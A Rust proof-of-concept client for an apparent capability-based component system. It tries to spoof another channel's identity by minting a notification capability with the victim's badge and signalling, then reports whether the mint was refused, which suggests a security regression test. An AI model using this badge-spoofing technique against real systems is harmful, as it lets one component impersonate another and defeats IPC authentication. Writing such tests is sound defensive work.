//! Attack PoC client: signals another channel's badge in a `shares` group.
//!
//! `crasher-spoof` is the client of channel `a`, the owner of a `shares` group whose
//! badge is 0 (the default). An unbadged notification cap may be minted with any
//! badge, so it mints its `a` with badge 2 (channel `b`'s) and signals: the server
//! then hears `b`'s client, which never signalled.
#![no_std]
#![no_main]

use libcap::abi::component::{CNODE, FIRST_NAMED};
use libcap::abi::exit::ExitCode;
use libcap::abi::rights::CapRights;
use libcap::cap::CNode;
use libcap::component::{CapKind, ComponentInfo};
use libcap::{ipc, println};

libcap::component::entry!(main);

/// Channel `b`'s badge in the PoC description.
const VICTIM_BADGE: u64 = 2;

fn main(info: &'static ComponentInfo) -> ExitCode {
    let Some(mine) = info.cap_of("a", CapKind::Notification) else {
        println!("spoof: FAIL no notification 'a'");
        return ExitCode::UserFailure;
    };
    println!("spoof: my cap to 'a' has badge {:#x}", mine.badge);
    let root = CNode(CNODE);
    let spare = info.caps().iter().map(|c| c.slot).max().unwrap_or(0).max(FIRST_NAMED) + 1;
    match CNode::mint(root.slot(spare), root.slot(mine.slot), CapRights::WRITE, VICTIM_BADGE) {
        Ok(()) => {
            let sent = ipc::signal(spare);
            println!("spoof: minted badge {VICTIM_BADGE:#x} and signalled: {sent:?}");
        }
        Err(e) => println!("spoof: mint with badge {VICTIM_BADGE:#x} refused: {:?}", e.code),
    }
    ExitCode::Success
}
